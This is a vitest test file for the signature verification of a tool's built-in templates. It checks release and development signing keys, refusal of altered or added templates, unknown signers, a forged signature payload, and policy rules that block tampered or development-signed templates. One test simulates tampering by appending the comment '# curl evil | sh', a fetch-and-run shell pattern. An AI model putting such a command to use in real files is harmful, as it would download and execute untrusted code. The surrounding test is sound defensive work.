import { generateKeyPairSync } from 'node:crypto';
import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { signingKeyOf } from '../../../source/core/identity/signingKey.js';
import {
  BUILTIN_RELEASE_PUBLIC_KEY,
  DEVELOPMENT_PUBLIC_KEY,
  defaultBuiltinSignerKeys,
  developmentSigningKey,
} from '../../../source/core/marketplace/builtinSigningKeys.js';
import {
  BUILTIN_SIGNATURE_FILE,
  signBuiltinTemplates,
} from '../../../source/core/marketplace/builtinTemplatesSignature.js';
import { evaluatePolicy } from '../../../source/core/policy/evaluatePolicy.js';
import { builtinTemplatesDir } from '../../../source/core/templates/builtinTemplatesDir.js';
import { loadTemplateRegistry } from '../../../source/core/templates/loadTemplateRegistry.js';
import { resolveTemplate } from '../../../source/core/templates/resolveTemplate.js';
import { templatePolicyFacts } from '../../../source/core/templates/templatePolicyFacts.js';

let root: string;
let builtin: string;
const now = new Date('2026-12-06T00:00:00Z');
const releaseKey = signingKeyOf(generateKeyPairSync('ed25519').privateKey);
const keys = { release: [releaseKey.publicKey], development: developmentSigningKey().publicKey };

beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'cws-builtin-sig-'));
  builtin = join(root, 'templates');
  // A copy of the shipped built-ins, without whatever signature the checkout has.
  await cp(builtinTemplatesDir(), builtin, { recursive: true });
  await rm(join(builtin, BUILTIN_SIGNATURE_FILE), { force: true });
});

afterEach(async () => {
  await rm(root, { recursive: true, force: true });
});

const load = () =>
  loadTemplateRegistry({ searchPath: [{ directory: builtin, origin: 'builtin' }], builtinSignerKeys: keys });

async function provenanceOf(slug: string) {
  return (await load()).templates.get(slug)?.provenance;
}

describe('the built-in templates as a signed set', () => {
  it('verifies every built-in signed with the release key, and names the key', async () => {
    const statement = await signBuiltinTemplates(builtin, releaseKey, { version: '9.9.9', now });
    const registry = await load();
    expect(statement.files.length).toBe(registry.templates.size);
    for (const template of registry.templates.values())
      expect(template.provenance).toEqual({
        state: 'builtin',
        signer: 'release',
        fingerprint: releaseKey.fingerprint,
      });
  });

  it('labels a set signed with the development key as such', async () => {
    await signBuiltinTemplates(builtin, developmentSigningKey(), { version: '0.0.0', now });
    expect(await provenanceOf('python-ml')).toEqual({
      state: 'builtin',
      signer: 'development',
      fingerprint: developmentSigningKey().fingerprint,
    });
  });

  it('derives the same development key everywhere, and ships a release key that is another', () => {
    expect(developmentSigningKey().publicKey).toBe(developmentSigningKey().publicKey);
    expect(defaultBuiltinSignerKeys().release).toEqual([BUILTIN_RELEASE_PUBLIC_KEY]);
    expect(BUILTIN_RELEASE_PUBLIC_KEY).not.toBe(developmentSigningKey().publicKey);
    // The public half written out for checking is the one the seed derives.
    expect(DEVELOPMENT_PUBLIC_KEY).toBe(developmentSigningKey().publicKey);
    expect(defaultBuiltinSignerKeys().development).toBe(DEVELOPMENT_PUBLIC_KEY);
  });

  it('refuses a built-in altered after signing, and only that one', async () => {
    await signBuiltinTemplates(builtin, releaseKey, { version: '9.9.9', now });
    const file = join(builtin, 'python-ml.yml');
    await writeFile(file, `${await readFile(file, 'utf8')}\n# curl evil | sh\n`);
    const provenance = await provenanceOf('python-ml');
    expect(provenance).toEqual({
      state: 'refused',
      registry: 'builtin',
      reason: expect.stringMatching(/the built-in python-ml\.yml was altered after it was signed/),
    });
    expect((await provenanceOf('bioinformatics'))?.state).toBe('builtin');
  });

  it('refuses a file added to the built-ins after signing', async () => {
    await signBuiltinTemplates(builtin, releaseKey, { version: '9.9.9', now });
    await writeFile(join(builtin, 'sneaky.yml'), 'name: Sneaky\ndescription: x\ninherits: [ubuntu-base]\n');
    expect(await provenanceOf('sneaky')).toMatchObject({
      state: 'refused',
      reason: expect.stringMatching(/not one of the signed built-in templates/),
    });
  });

  it('refuses every built-in when the set is unsigned, signed by an unknown key or its signature altered', async () => {
    expect((await provenanceOf('python-ml')) ?? {}).toMatchObject({
      state: 'refused',
      reason: expect.stringMatching(/built-in templates are not signed .*npm run build/),
    });
    const stranger = signingKeyOf(generateKeyPairSync('ed25519').privateKey);
    await signBuiltinTemplates(builtin, stranger, { version: '9.9.9', now });
    expect(await provenanceOf('python-ml')).toMatchObject({
      reason: expect.stringMatching(
        /unknown signer: .* neither the cws-tui release key nor the development key/,
      ),
    });
    await signBuiltinTemplates(builtin, releaseKey, { version: '9.9.9', now });
    const path = join(builtin, BUILTIN_SIGNATURE_FILE);
    const envelope = JSON.parse(await readFile(path, 'utf8')) as { payload: string };
    const payload = Buffer.from(envelope.payload, 'base64')
      .toString('utf8')
      .replace(/"sha256":"[0-9a-f]{64}"/, `"sha256":"${'0'.repeat(64)}"`);
    await writeFile(path, JSON.stringify({ ...envelope, payload: Buffer.from(payload).toString('base64') }));
    expect(await provenanceOf('python-ml')).toMatchObject({
      reason: expect.stringMatching(/signature does not match the signed metadata/),
    });
  });

  it('never launches a refused built-in, and a policy can refuse the development key', async () => {
    await signBuiltinTemplates(builtin, developmentSigningKey(), { version: '0.0.0', now });
    const facts = async () => templatePolicyFacts(resolveTemplate('python-ml', await load()));
    const request = async () => ({
      template_slug: 'python-ml',
      instance_type: 't3.large',
      region: 'us-east-1',
      spot: false,
      hibernation: false,
      service_type: 'ec2' as const,
      root_volume_gb: 50,
      tags: {},
      ...(await facts()),
    });
    expect(evaluatePolicy({}, await request(), {}).allowed).toBe(true);
    const strict = evaluatePolicy({ templates: { development_builtins: 'deny' } }, await request(), {});
    expect(strict.violations.map((violation) => violation.rule)).toEqual(['templates.development_builtins']);
    expect(strict.violations[0]?.message).toMatch(/refuses built-ins signed with the development key/);

    const file = join(builtin, 'jupyter-server.yml');
    await writeFile(file, `${await readFile(file, 'utf8')}# altered\n`);
    const tampered = evaluatePolicy({}, await request(), {});
    expect(tampered.allowed).toBe(false);
    expect(tampered.violations[0]).toMatchObject({
      rule: 'templates.verification',
      message: expect.stringMatching(
        /'python-ml' inherits 'jupyter-server', which failed verification: .*altered/,
      ),
    });
  });

  it('the checkout signs its own built-ins before tests run, so they all verify', async () => {
    const registry = await loadTemplateRegistry({
      searchPath: [{ directory: builtinTemplatesDir(), origin: 'builtin' }],
    });
    expect(registry.templates.size).toBeGreaterThan(10);
    for (const template of registry.templates.values()) expect(template.provenance?.state).toBe('builtin');
  });
});
